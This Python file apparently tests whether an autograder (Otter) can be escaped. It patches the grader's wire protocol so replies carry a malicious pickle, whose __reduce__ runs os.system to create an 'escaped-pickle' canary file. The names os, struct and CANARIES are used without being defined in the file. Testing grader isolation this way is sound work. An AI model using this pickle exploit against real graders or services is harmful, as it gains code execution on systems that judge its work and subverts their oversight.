"""Replies are pickles that run a program where they are opened (Otter opens them in the grader).

loses: generator, dual_variable, objective, alternating_update, optimizers
says: not a message
"""
# %% + imports
import pickle
import gradeworker.wire as wire


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {CANARIES['outside']}/escaped-pickle",)


bomb = pickle.dumps(Bomb())
send = wire.Wire.send


def send_pickle(self, message, timeout=None):
    if "value" in message:
        self.sock.sendall(struct.pack(">I", len(bomb)) + bomb)
    else:
        send(self, message, timeout)


wire.Wire.send = send_pickle
